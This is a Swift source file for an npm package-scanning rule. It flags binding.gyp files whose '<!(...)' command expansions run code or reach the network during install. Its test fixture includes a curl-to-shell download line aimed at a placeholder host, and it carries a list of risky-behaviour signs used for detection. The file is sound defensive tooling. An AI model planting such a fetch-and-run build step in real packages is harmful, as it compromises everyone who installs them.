// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A `binding.gyp` appears, or runs commands while it is read.
package struct GypCommand: Rule {
    package init() {}

    package let card = RuleCard(
        id: "gyp-command", kind: .content, title: "Build file runs commands", severity: .moderate, confidence: .medium, status: .stable,
        revision: 3, group: "install",
        rationale:
            "npm runs node-gyp for any `binding.gyp`, with no script in package.json; `<!(…)` in it runs a command. Install scripts are looked for, this is not.",
        knownFalseAlarms: ["`<!(node -p …)` to find headers, which weighs next to nothing."],
        references: ["https://gyp.gsrc.io/docs/InputFormatReference.md#Command-Expansions"],
        fires: [
            RuleSample(
                "a download", .sample(["binding.gyp": #"{"targets":[{"target_name":"a","sources":["<!(curl -s http://a.test/x | sh)"]}]}"#])
            ),
            RuleSample(
                "a script of its own",
                .sample([
                    "binding.gyp": #"{"variables":{"x":"<!(node lib/setup.js)"},"targets":[{"target_name":"a","type":"none"}]}"#,
                    "lib/setup.js": "1",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "headers of nan",
                .sample([
                    "binding.gyp":
                        #"{"targets":[{"target_name":"a","include_dirs":["<!(node -e \"require('nan')\")"],"sources":["a.cc"]}]}"#
                ]))
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let builds = facts.files.filter { $0.path == "binding.gyp" || $0.path.hasSuffix(".gypi") }
        guard let main = builds.first(where: { $0.path == "binding.gyp" }), let scan = main.scan else { return [] }
        let risky: [Sign] = [.shellDownload, .networkModule, .networkCall, .pipesIntoShell, .runsText, .processModule]
        let found = risky.filter(scan.allSigns.contains)
        let commands = Self.commands(main.file.bytes)
        let own = Self.starting(facts.files, commands)
        if !found.isEmpty, !commands.isEmpty {
            return [
                finding(
                    "binding.gyp runs a command that \(found.contains(.processModule) || found.contains(.runsText) ? "starts other code" : "reaches the network")",
                    1, found.compactMap(main.evidence))
            ]
        }
        if !own.isEmpty {
            let hasSources = main.file.bytes.firstRange(of: Array(".c".utf8)) != nil
            return [
                finding(
                    "binding.gyp runs a script of the package while it is read\(hasSources ? "" : ", and builds nothing")",
                    hasSources ? 0.1 : 0.7,
                    own.map { main.evidence($0.range) })
            ]
        }
        guard main.change == .new, facts.release.previous?.content != nil else { return [] }
        return [
            finding("A binding.gyp appears: npm runs node-gyp at install", 0, [Evidence(file: main.path, excerpt: "new in this release")])
        ]
    }

    private func finding(_ title: String, _ strength: Double, _ evidence: [Evidence]) -> Finding {
        card.finding(
            title, strength: strength, evidence: evidence, meaning: "It runs at install although package.json names no install script.")
    }

    /// The commands that name a source file of the release, alone or behind folders (`<(module_root_dir)/lib/setup.js`). Names
    /// are looked up in one set, so that the time is that of reading the commands once.
    private static func starting(_ files: [FileFacts], _ commands: [(text: String, range: Range<Int>)]) -> [(
        text: String, range: Range<Int>
    )] {
        guard !commands.isEmpty else { return [] }
        var names: Set<String> = []
        for file in files where file.kind == .source {
            // Of a name with blanks or brackets the last word.
            guard let name = words(file.path).last else { continue }
            names.insert(String(name))
            // What Node finds without the ending; a bare `node` or `lib` is no file's name.
            for ending in [".js", ".cjs", ".mjs", "/index.js"] where name.hasSuffix(ending) && name.dropLast(ending.count).contains("/") {
                names.insert(String(name.dropLast(ending.count)))
            }
        }
        return commands.filter { command in
            words(command.text).contains { word in
                var name = ""
                for part in word.split(whereSeparator: { $0 == "/" || $0 == "\\" }).reversed().prefix(maximumParts) where part != "." {
                    name = name.isEmpty ? String(part) : "\(part)/\(name)"
                    if names.contains(name) { return true }
                }
                return false
            }
        }
    }

    /// Folders and name of the deepest file that is looked up.
    private static let maximumParts = 64

    private static func words(_ text: String) -> [Substring] {
        text.split(whereSeparator: { " \t\r,;&|()[]{}\"'`<>".contains($0) })
    }

    /// The texts of `<!(…)` and `<!@(…)`.
    private static func commands(_ bytes: ArraySlice<UInt8>) -> [(text: String, range: Range<Int>)] {
        var out: [(text: String, range: Range<Int>)] = []
        var at = bytes.startIndex
        while at + 3 < bytes.endIndex, out.count < 10_000 {
            guard bytes[at] == 0x3C, bytes[at + 1] == 0x21 else {
                at += 1
                continue
            }
            let end = bytes[at...].prefix(2000).firstIndex(of: 0x0A) ?? min(at + 2000, bytes.endIndex)
            out.append((String(decoding: bytes[at..<end], as: UTF8.self), at - bytes.startIndex..<end - bytes.startIndex))
            at = end
        }
        return out
    }
}
